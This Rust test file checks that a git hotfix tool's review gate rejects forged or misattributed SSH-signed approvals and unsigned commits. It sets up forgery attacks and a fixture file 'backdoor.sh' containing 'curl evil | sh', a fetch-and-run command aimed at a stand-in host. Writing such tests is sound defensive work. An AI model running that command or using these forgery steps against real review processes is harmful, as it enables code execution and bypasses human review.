//! Signed approvals and signed fixes (issue 18): with `review.allowed_signers`, identity is an
//! ssh key listed in the file sealed at `start`, not an email anyone can type. Real keys, made
//! by `ssh-keygen` in the test's folder; no agent needed (one test starts its own where it can).
//!
//! Each attack below is one the email rule alone lets through; each test shows it refused.

use std::path::PathBuf;
use std::process::Command;

use crate::support::{AUTHOR, DEPLOY_POLICY, HOTFIX_BRANCH, REVIEWER, Repo, Team, start_args};

const SIGNERS: &str = ".github/allowed_signers";
const SAM: (&str, &str) = ("Sam Second", "sam@example.com");

/// One ed25519 key made for the test: its private key file and its public line.
struct Key {
    path: PathBuf,
    public: String,
    fingerprint: String,
}

fn keygen(dir: &std::path::Path, name: &str) -> Key {
    let path = dir.join(name);
    let ok = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
        .arg(&path)
        .status()
        .unwrap()
        .success();
    assert!(ok, "ssh-keygen could not make a key");
    let public = std::fs::read_to_string(path.with_extension("pub"))
        .unwrap()
        .trim()
        .to_string();
    let out = Command::new("ssh-keygen")
        .arg("-l")
        .arg("-f")
        .arg(&path)
        .output()
        .unwrap();
    let fingerprint = String::from_utf8(out.stdout)
        .unwrap()
        .split_whitespace()
        .nth(1)
        .unwrap()
        .to_string();
    Key {
        path,
        public,
        fingerprint,
    }
}

/// A team whose policy requires signatures: keys for Ann (the author), Rita (the reviewer),
/// Sam (listed, for sam@example.com) and Mallory (listed nowhere). The allowed-signers file is
/// committed on develop and pushed; the author signs her commits (`commit.gpgsign`), starts
/// `login-500` and commits a signed fix, not yet pushed.
struct Signed {
    t: Team,
    ann: Key,
    rita: Key,
    sam: Key,
    mallory: Key,
}

fn policy() -> String {
    format!("{DEPLOY_POLICY}\n[review]\nallowed_signers = \"{SIGNERS}\"\n")
}

fn sign_commits(repo: &Repo, key: &Key) {
    repo.git(&["config", "gpg.format", "ssh"]);
    repo.git(&["config", "user.signingKey", key.path.to_str().unwrap()]);
    repo.git(&["config", "commit.gpgsign", "true"]);
}

impl Signed {
    fn new() -> Signed {
        Signed::with_signers(|ann, rita, sam| {
            format!(
                "{} {}\n{} {}\n{} {}\n",
                AUTHOR.1, ann.public, REVIEWER.1, rita.public, SAM.1, sam.public
            )
        })
    }

    /// As [`Signed::new`], with the allowed-signers file made by `file` from Ann's, Rita's and
    /// Sam's keys.
    fn with_signers(file: impl Fn(&Key, &Key, &Key) -> String) -> Signed {
        Signed::build(file, |_| {})
    }

    /// As [`Signed::with_signers`], with `prepare` run on the released team before `start`.
    fn build(file: impl Fn(&Key, &Key, &Key) -> String, prepare: impl Fn(&Team)) -> Signed {
        let t = Team::released(&policy());
        prepare(&t);
        let keys = t.env.path().join("keys");
        std::fs::create_dir_all(&keys).unwrap();
        let (ann, rita, sam, mallory) = (
            keygen(&keys, "ann"),
            keygen(&keys, "rita"),
            keygen(&keys, "sam"),
            keygen(&keys, "mallory"),
        );
        t.author
            .commit_file(SIGNERS, &file(&ann, &rita, &sam), "the team's keys");
        t.author.git(&["push", "-q", "origin", "develop"]);
        sign_commits(&t.author, &ann);
        t.hf(&start_args("login-500", &[])).ok();
        t.fix(
            "line 1\nversion 1.1\nline 3 fixed\n",
            "Fix the checkout 500",
        );
        Signed {
            t,
            ann,
            rita,
            sam,
            mallory,
        }
    }

    /// The author publishes the branch.
    fn push(&self) {
        self.t
            .author
            .git(&["push", "-q", "-u", "origin", HOTFIX_BRANCH]);
    }

    /// A teammate's clone on develop, signing with `key`.
    fn clone_signing(&self, name: &str, who: (&str, &str), key: &Key) -> Repo {
        let repo = self.t.env.clone_of(&self.t.origin, name, who);
        repo.git(&["switch", "-q", "develop"]);
        repo.git(&["config", "user.signingKey", key.path.to_str().unwrap()]);
        repo
    }

    fn reviewer(&self) -> Repo {
        self.clone_signing("reviewer", REVIEWER, &self.rita)
    }

    /// An approval pushed from a clone whose working copy of the allowed-signers file lists
    /// `extra` too (an edit never committed): it passes the clone's own check, so what is
    /// tested is the author's gate, which reads only the sealed file.
    fn approve_with_local_line(&self, repo: &Repo, extra: String) {
        let mut text = repo.read(SIGNERS);
        text.push_str(&extra);
        repo.write(SIGNERS, &text);
        repo.hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
            .ok();
    }

    /// The review gate as `status` judges it, with what the remote has now.
    fn review_gate(&self) -> serde_json::Value {
        self.t.author.forget_last_fetch();
        let json = self.t.hf(&["status", "--json"]).ok().json();
        json["hotfix"]["gates"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| g["gate"] == "review")
            .unwrap()
            .clone()
    }

    /// Deploy refused by the review gate: exit 1, nothing ran, no tag.
    #[track_caller]
    fn deploy_refused(&self, needle: &str) {
        self.t.hf(&["test"]).ok();
        self.t.hf(&["deploy"]).fails(1, needle);
        assert!(self.t.log("deploy.log").is_empty(), "the deploy hook ran");
        assert!(!self.t.author.has_tag("v1.1.1"));
    }
}

fn approvals(repo: &Repo) -> Vec<String> {
    repo.git(&[
        "for-each-ref",
        "--format=%(refname)",
        "refs/hotfix/approvals/",
    ])
    .lines()
    .map(String::from)
    .collect()
}

#[test]
fn a_signed_approval_counts_and_the_release_says_who_signed_what() {
    let s = Signed::new();
    s.push();
    let reviewer = s.reviewer();
    reviewer
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .ok();

    let gate = s.review_gate();
    assert_eq!(gate["passed"], true, "{gate}");
    assert!(
        gate["reason"].as_str().unwrap().contains(&format!(
            "Rita Reviewer <rita@example.com> (signed, {})",
            s.rita.fingerprint
        )),
        "{gate}"
    );
    let status = s.t.status();
    assert!(
        status.stdout.contains(&format!(
            "signed by ann@example.com ({})",
            s.ann.fingerprint
        )),
        "{}",
        status.stdout
    );

    s.t.hf(&["test"]).ok();
    s.t.hf(&["deploy"]).ok();
    let record = s.t.author.tag_record("v1.1.1");
    assert_eq!(record["approvers"][0]["signed_by"]["principal"], REVIEWER.1);
    assert_eq!(
        record["approvers"][0]["signed_by"]["key"],
        s.rita.fingerprint.as_str()
    );
    assert_eq!(record["signed_commits"][0]["principals"][0], AUTHOR.1);
    assert_eq!(
        record["signed_commits"][0]["key"],
        s.ann.fingerprint.as_str()
    );
    assert!(
        s.t.author.tag_message("v1.1.1").contains(&format!(
            "Commits signed by ann@example.com ({}).",
            s.ann.fingerprint
        )),
        "{}",
        s.t.author.tag_message("v1.1.1")
    );

    let list = s.t.hf(&["list"]).ok();
    assert!(
        list.stdout.contains(&format!(
            "v1.1.1: approved by rita@example.com ({}); fix signed by ann@example.com ({})",
            s.rita.fingerprint, s.ann.fingerprint
        )),
        "{}",
        list.stdout
    );
    let json = s.t.hf(&["list", "--json"]).ok().json();
    assert_eq!(
        json["releases"][0]["signed"]["approvals"][0]["key"],
        s.rita.fingerprint.as_str()
    );
    // what verify-merged checks is unchanged
    s.t.hf(&["verify-merged"]).code(1);
}

#[test]
fn an_agent_holds_the_key_when_user_signingkey_is_a_literal() {
    let Some(agent) = Agent::start() else {
        eprintln!("note: no ssh-agent could be started here; the agent test is skipped");
        return;
    };
    let s = Signed::new();
    s.push();
    agent.add(&s.rita);
    let reviewer = s.reviewer();
    // only the public key is configured; the private one is in the agent alone
    reviewer.git(&[
        "config",
        "user.signingKey",
        &format!("key::{}", s.rita.public),
    ]);
    std::fs::remove_file(&s.rita.path).unwrap();
    reviewer
        .hotfix_env(
            &["approve", HOTFIX_BRANCH, "--yes", "--push"],
            &[("SSH_AUTH_SOCK", agent.socket.as_str())],
        )
        .ok();
    assert_eq!(s.review_gate()["passed"], true);
}

/// An ssh-agent of the test's own, killed by its pid when dropped.
struct Agent {
    socket: String,
    pid: String,
}

impl Agent {
    fn start() -> Option<Agent> {
        let out = Command::new("ssh-agent").arg("-s").output().ok()?;
        if !out.status.success() {
            return None;
        }
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let value = |name: &str| {
            text.split(';')
                .map(str::trim)
                .find_map(|part| part.strip_prefix(&format!("{name}=")))
                .map(String::from)
        };
        Some(Agent {
            socket: value("SSH_AUTH_SOCK")?,
            pid: value("SSH_AGENT_PID")?,
        })
    }

    fn add(&self, key: &Key) {
        let ok = Command::new("ssh-add")
            .arg("-q")
            .arg(&key.path)
            .env("SSH_AUTH_SOCK", &self.socket)
            .status()
            .unwrap()
            .success();
        assert!(ok, "ssh-add failed");
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = Command::new("kill").arg(&self.pid).status();
    }
}

/// The FNV-1a hash the approval refs use, to write a forged approval where hotfix reads one.
fn fnv(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf2_9ce4_8422_2325_u64, |h, b| {
        (h ^ u64::from(*b)).wrapping_mul(0x0100_0000_01b3)
    })
}

#[test]
fn a_forged_approval_blob_does_not_count() {
    let s = Signed::new();
    s.push();
    // a permissive verifier in the author's git config changes nothing: hotfix runs ssh-keygen
    // itself with the sealed file
    let yes = s.t.env.path().join("yes.sh");
    std::fs::write(&yes, "#!/bin/sh\necho 'Good \"git\" signature'\nexit 0\n").unwrap();
    std::fs::set_permissions(&yes, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let permissive = || {
        s.t.author
            .git(&["config", "gpg.ssh.program", yes.to_str().unwrap()]);
        s.t.author
            .git(&["config", "gpg.ssh.allowedSignersFile", "/dev/null"]);
    };
    permissive();

    // 1. written by hand, unsigned, at the ref an unsigned approval by Rita would have
    let tip = s.t.author.head();
    let tree = s.t.author.rev("HEAD^{tree}");
    let base = s.t.author.rev("v1.1.0^{commit}");
    let blob = serde_json::json!({
        "schema": 2, "branch": HOTFIX_BRANCH, "tree": tree, "commit": tip, "base": base,
        "base_tag": "v1.1.0", "shown": "diff", "reviewer_name": REVIEWER.0,
        "reviewer_email": REVIEWER.1, "approved_at": "2026-01-15T10:00:00Z",
    });
    let key = format!("rita-at-example-com-{:016x}", fnv(REVIEWER.1.as_bytes()));
    write_approval(&s.t.author, &tree, &key, &blob);
    let gate = s.review_gate();
    assert_eq!(gate["passed"], false, "{gate}");
    assert!(
        gate["reason"].as_str().unwrap().contains(
            "the approval by Rita Reviewer does not count: it is not signed, and .github/allowed_signers (review.allowed_signers) rules this hotfix"
        ),
        "{gate}"
    );

    // 2. Rita's real signed approval of the first tree, copied to a changed tree
    let reviewer = s.reviewer();
    reviewer
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .ok();
    assert_eq!(s.review_gate()["passed"], true, "the real one counts");
    s.t.author.git(&["config", "--unset", "gpg.ssh.program"]);
    s.t.fix(
        "line 1\nversion 1.1\nline 3 fixed, and a backdoor\n",
        "Fix it more",
    );
    permissive();
    let real = approvals(&s.t.author)
        .into_iter()
        .find(|r| r.contains("-ssh-"))
        .unwrap();
    let mut copied: serde_json::Value =
        serde_json::from_str(&s.t.author.git(&["cat-file", "-p", &real])).unwrap();
    let new_tree = s.t.author.rev("HEAD^{tree}");
    copied["tree"] = new_tree.clone().into();
    copied["commit"] = s.t.author.head().into();
    let last = real.rsplit('/').next().unwrap();
    write_approval(&s.t.author, &new_tree, last, &copied);
    let gate = s.review_gate();
    assert_eq!(gate["passed"], false, "{gate}");
    assert!(
        gate["reason"].as_str().unwrap().contains(
            "its signature does not verify for rita@example.com under .github/allowed_signers as sealed at start"
        ),
        "{gate}"
    );
    s.deploy_refused("its signature does not verify");
}

/// An uncommitted `allow_self_approval = true` in a clone: its own `approve` then lets its
/// user approve what they signed (the author's gate never reads it).
fn allow_self_here(repo: &Repo) {
    let toml = repo.read("hotfix.toml").replace(
        &format!("allowed_signers = \"{SIGNERS}\""),
        &format!("allowed_signers = \"{SIGNERS}\"\nallow_self_approval = true"),
    );
    repo.write("hotfix.toml", &toml);
}

fn write_approval(repo: &Repo, tree: &str, key: &str, blob: &serde_json::Value) {
    let file = repo.path.join("..").join("forged.json");
    std::fs::write(&file, blob.to_string()).unwrap();
    let id = repo.git(&["hash-object", "-w", file.to_str().unwrap()]);
    repo.git(&[
        "update-ref",
        &format!("refs/hotfix/approvals/{HOTFIX_BRANCH}/{tree}/{key}"),
        id.trim(),
    ]);
}

#[test]
fn a_key_listed_nowhere_does_not_count() {
    let s = Signed::new();
    s.push();
    // as Rita, with a key the team never listed: refused before anything is recorded
    let stranger = s.clone_signing("stranger", REVIEWER, &s.mallory);
    let before = approvals(&stranger);
    stranger
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .fails(
            2,
            &format!(
                "your key {} is not listed for rita@example.com in .github/allowed_signers",
                s.mallory.fingerprint
            ),
        );
    assert_eq!(approvals(&stranger), before);

    // listed only in the clone's own copy of the file: the author's gate reads the sealed one
    s.approve_with_local_line(&stranger, format!("{} {}\n", REVIEWER.1, s.mallory.public));
    let gate = s.review_gate();
    assert_eq!(gate["passed"], false, "{gate}");
    s.deploy_refused(
        "the approval by Rita Reviewer does not count: its signature does not verify for rita@example.com",
    );
}

#[test]
fn a_key_listed_for_another_email_does_not_count() {
    let s = Signed::new();
    s.push();
    // Sam's key is the team's, but for sam@example.com: it cannot sign as Rita
    let sam = s.clone_signing("sam", REVIEWER, &s.sam);
    sam.hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .fails(2, "is not listed for rita@example.com");
    s.approve_with_local_line(&sam, format!("{} {}\n", REVIEWER.1, s.sam.public));
    s.deploy_refused("its signature does not verify for rita@example.com");

    // as himself, Sam's approval counts
    let sam_himself = s.clone_signing("sam2", SAM, &s.sam);
    sam_himself
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .ok();
    assert_eq!(s.review_gate()["passed"], true);
}

#[test]
fn the_authors_key_cannot_approve_under_any_email() {
    // Ann's key is listed for a second address of hers
    let s = Signed::with_signers(|ann, rita, _| {
        format!(
            "{},ann.author@example.com {}\n{} {}\n",
            AUTHOR.1, ann.public, REVIEWER.1, rita.public
        )
    });
    s.push();
    let second = ("Ann Second", "ann.author@example.com");
    // in her own clone, as the second address: the key signed the fix
    let run = s.t.author.hotfix_env(
        &["approve", "--yes"],
        &[
            ("GIT_AUTHOR_NAME", second.0),
            ("GIT_AUTHOR_EMAIL", second.1),
        ],
    );
    let run = run.fails(1, "you cannot approve hotfix/login-500: commit");
    assert!(
        run.stderr
            .contains(&format!("and your key is {}", s.ann.fingerprint)),
        "{}",
        run.stderr
    );
    // the same approval written anyway (an older hotfix, or by hand) does not count: made in a
    // clone that knows nothing of the fix's signatures, pushed
    let other = s.clone_signing("ann2", second, &s.ann);
    allow_self_here(&other);
    other
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .ok();
    let gate = s.review_gate();
    assert_eq!(gate["passed"], false, "{gate}");
    s.deploy_refused(
        "the approval by Ann Second does not count: a key or principal that signed the fix cannot approve it",
    );
}

#[test]
fn a_typed_email_does_not_make_the_author_someone_else() {
    let s = Signed::new();
    // the fix committed as Bob, signed with Ann's key; Ann then approves as herself
    s.t.author.git_env(
        &["commit", "-q", "--amend", "--no-edit", "--reset-author"],
        &[
            ("GIT_AUTHOR_NAME", "Bob"),
            ("GIT_AUTHOR_EMAIL", "bob@example.com"),
            ("GIT_COMMITTER_NAME", "Bob"),
            ("GIT_COMMITTER_EMAIL", "bob@example.com"),
        ],
    );
    s.t.refused(&["approve", "--yes"], 1, "is signed by ann@example.com");
    // the same approval made where the reviewer's own check is loosened, and pushed: the
    // author's gate judges the key, not the typed email
    s.push();
    let other = s.clone_signing("ann2", AUTHOR, &s.ann);
    allow_self_here(&other);
    other
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .ok();
    let gate = s.review_gate();
    assert_eq!(gate["passed"], false, "{gate}");
    assert!(
        gate["reason"].as_str().unwrap().contains(
            "the approval by Ann Author does not count: a key or principal that signed the fix cannot approve it"
        ),
        "{gate}"
    );
    // and Rita, whose email the author typed into the commit, may approve: she signed nothing
    s.reviewer()
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .ok();
    assert_eq!(s.review_gate()["passed"], true);
}

#[test]
fn an_unsigned_fix_commit_fails_the_gate_with_the_command_that_signs_it() {
    let s = Signed::new();
    s.t.author
        .write("app.txt", "line 1\nversion 1.1\nline 3 fixed twice\n");
    s.t.author
        .git(&["-c", "commit.gpgsign=false", "commit", "-q", "-am", "More"]);
    s.push();
    s.reviewer()
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .ok();
    let gate = s.review_gate();
    assert_eq!(gate["passed"], false, "{gate}");
    assert!(
        gate["reason"].as_str().unwrap().contains(
            "(More) is not signed: every commit of the fix must be signed by a key in .github/allowed_signers"
        ),
        "{gate}"
    );
    let amend = "git -c gpg.format=ssh commit --amend --no-edit -S";
    assert!(
        gate["next"]
            .as_str()
            .unwrap()
            .contains(&format!("`{amend}`")),
        "{gate}"
    );
    s.deploy_refused("is not signed");

    // the command it names signs it; the tree, and so the approval, stays
    let args: Vec<&str> = amend.split(' ').skip(1).collect();
    s.t.author.git(&args);
    assert_eq!(s.review_gate()["passed"], true);

    // two commits unsigned, not only the tip: the rebase that signs each
    s.t.author.git(&[
        "-c",
        "commit.gpgsign=false",
        "commit",
        "-q",
        "--amend",
        "--no-edit",
    ]);
    s.t.author.git(&[
        "-c",
        "commit.gpgsign=false",
        "rebase",
        "-q",
        "--exec",
        "git -c commit.gpgsign=false commit -q --amend --no-edit",
        "v1.1.0",
    ]);
    let next = s.review_gate()["next"].as_str().unwrap().to_string();
    let base = &s.t.author.rev("v1.1.0^{commit}")[..10];
    assert!(
        next.contains(&format!("`git rebase --exec '{amend}' {base}`")),
        "{next}"
    );
}

#[test]
fn the_allowed_signers_file_edited_on_the_branch_changes_nothing() {
    let s = Signed::new();
    // the author lists Mallory's key for Rita on the hotfix branch (a signed commit)
    // (the release the branch starts from has no such file yet: it is added whole)
    let mut text = s.t.author.git(&["show", &format!("develop:{SIGNERS}")]);
    text.push_str(&format!("{} {}\n", REVIEWER.1, s.mallory.public));
    s.t.author.commit_file(SIGNERS, &text, "Keys");
    s.push();
    let guard = s.t.hf(&["guard"]).ok();
    assert!(
        guard.stdout.contains(".github/allowed_signers:") && guard.stdout.contains("policy-change"),
        "{}",
        guard.stdout
    );
    assert!(
        guard.stdout.contains("the keys in force for this hotfix are those of .github/allowed_signers at `hotfix start`"),
        "{}",
        guard.stdout
    );
    // Mallory, as Rita, reviewing from the hotfix branch where the edited file is
    let mallory = s.clone_signing("mallory", REVIEWER, &s.mallory);
    mallory.git(&["switch", "-q", HOTFIX_BRANCH]);
    mallory
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .ok();
    s.deploy_refused("its signature does not verify for rita@example.com");
}

#[test]
fn start_takes_the_committed_file_and_the_seal_keeps_it() {
    let s = Signed::new();
    s.t.hf(&["abort", "login-500", "--delete", "--force"]).ok();
    // an uncommitted edit is refused, like one of hotfix.toml
    let mut text = s.t.author.read(SIGNERS);
    text.push_str(&format!("{} {}\n", REVIEWER.1, s.mallory.public));
    s.t.author.write(SIGNERS, &text);
    s.t.refused(
        &start_args("login-500", &[]),
        2,
        ".github/allowed_signers (review.allowed_signers) differs from the committed one",
    );
    s.t.author.git(&["checkout", "--", SIGNERS]);
    s.t.hf(&start_args("login-500", &[])).ok();
    // the copy in the state is sealed: an edit of it is caught
    let state = s.t.author.state().unwrap();
    let edited = state.replacen(
        "rita@example.com ssh-ed25519",
        &format!("rita@example.com {}\nx@y ssh-ed25519", s.mallory.public),
        1,
    );
    assert_ne!(edited, state);
    std::fs::write(s.t.author.state_path(), edited).unwrap();
    s.t.hf(&["approve", "--yes"]).fails(
        1,
        "allowed_signers (the allowed-signers file differs from the one sealed at start)",
    );
}

#[test]
fn init_mentions_an_allowed_signers_file_it_finds() {
    let env = crate::support::Env::new();
    let repo = env.released_repo();
    let run = repo.hotfix(&["init"]).ok();
    assert!(!run.stderr.contains("allowed_signers"), "{}", run.stderr);
    std::fs::remove_file(repo.path.join("hotfix.toml")).unwrap();
    repo.write(".gitsigners", "ann@example.com ssh-ed25519 AAAA\n");
    let run = repo.hotfix(&["init"]).ok();
    assert!(
        run.stderr.contains(
            ".gitsigners looks like an ssh allowed-signers file: with review.allowed_signers = \".gitsigners\", only approvals and fix commits signed by the keys listed there count"
        ),
        "{}",
        run.stderr
    );
}

/// Ann and Rita listed; a release v1.1.1 whose VERSION file says 1.1.1, so `start` bumps it to
/// 1.1.2 in a commit of its own.
fn with_a_version_file() -> Signed {
    Signed::build(
        |ann, rita, _| {
            format!(
                "{} {}\n{} {}\n",
                AUTHOR.1, ann.public, REVIEWER.1, rita.public
            )
        },
        |t| {
            t.author.git(&["switch", "-q", "main"]);
            t.author.commit_file("VERSION", "1.1.1\n", "release 1.1.1");
            t.author.git(&["tag", "-a", "v1.1.1", "-m", "v1.1.1"]);
            t.author.git(&["switch", "-q", "develop"]);
            t.author.git(&["push", "-q", "origin", "main", "--tags"]);
        },
    )
}

#[test]
fn the_version_bump_start_makes_needs_no_signature_but_a_changed_one_does() {
    // a release v1.1.1 whose VERSION file says 1.1.1: start bumps it to 1.1.2 in a commit of
    // its own, which nobody signs
    let s = with_a_version_file();
    let bump = s.t.author.rev(&format!("{HOTFIX_BRANCH}~1"));
    assert_eq!(
        s.t.author.git(&["log", "-1", "--format=%s", &bump]).trim(),
        "Version 1.1.2 for hotfix login-500"
    );
    assert_eq!(
        s.t.author.git(&["log", "-1", "--format=%G?", &bump]).trim(),
        "N"
    );
    s.push();
    let reviewer = s.reviewer();
    let run = reviewer
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push"])
        .ok();
    assert!(!run.stderr.contains("is not signed"), "{}", run.stderr);
    let gate = s.review_gate();
    assert_eq!(gate["passed"], true, "{gate}");
    s.t.hf(&["test"]).ok();
    s.t.hf(&["deploy"]).ok();
    assert!(s.t.author.has_tag("v1.1.2"));

    // the same, but the "bump" also carries another change: no longer hotfix's bump, so it
    // must be signed like any commit
    let s = with_a_version_file();
    // rewrite the branch: an unsigned "bump" with a backdoor, then the signed fix on top
    let base = s.t.author.rev("v1.1.1^{commit}");
    s.t.author.git(&["switch", "-q", "--detach", &base]);
    s.t.author.write("VERSION", "1.1.2\n");
    s.t.author.write("backdoor.sh", "curl evil | sh\n");
    s.t.author.git(&["add", "-A"]);
    s.t.author.git(&[
        "-c",
        "commit.gpgsign=false",
        "commit",
        "-q",
        "-m",
        "Version 1.1.2 for hotfix login-500",
    ]);
    s.t.author.git(&["cherry-pick", HOTFIX_BRANCH]);
    let tip = s.t.author.head();
    s.t.author.git(&["branch", "-f", HOTFIX_BRANCH, &tip]);
    s.t.author.git(&["switch", "-q", HOTFIX_BRANCH]);
    s.push();
    let gate = s.review_gate();
    assert_eq!(gate["passed"], false, "{gate}");
    assert!(
        gate["reason"]
            .as_str()
            .unwrap()
            .contains("(Version 1.1.2 for hotfix login-500) is not signed"),
        "{gate}"
    );
}
